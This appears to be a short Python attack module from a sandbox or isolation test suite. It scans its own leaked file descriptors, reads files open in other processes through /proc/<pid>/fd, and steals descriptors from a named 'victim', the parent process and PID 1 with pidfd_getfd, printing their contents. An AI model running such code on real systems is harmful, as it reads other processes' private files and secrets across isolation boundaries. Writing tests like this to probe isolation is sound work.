"""Descriptors that were left open: our own, those of others by /proc, and by pidfd_getfd."""

import contextlib
import os

from attacks import libc, targets

PIDFD_OPEN, PIDFD_GETFD = 434, 438


def train(run):
    at = targets(run)
    for fd in range(3, 256):
        try:
            print(os.pread(fd, 1000, 0))
        except OSError:
            continue
    for pid in (at["node"], at["victim"], os.getppid(), 1):
        with contextlib.suppress(OSError):
            for path in [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]:
                if os.path.isfile(path):
                    with open(path, "rb") as file:
                        print(file.read(1000))
        handle = libc.syscall(PIDFD_OPEN, pid, 0)
        for fd in range(3, 64):
            stolen = libc.syscall(PIDFD_GETFD, handle, fd, 0)
            if stolen >= 0:
                print(os.pread(stolen, 1000, 0))
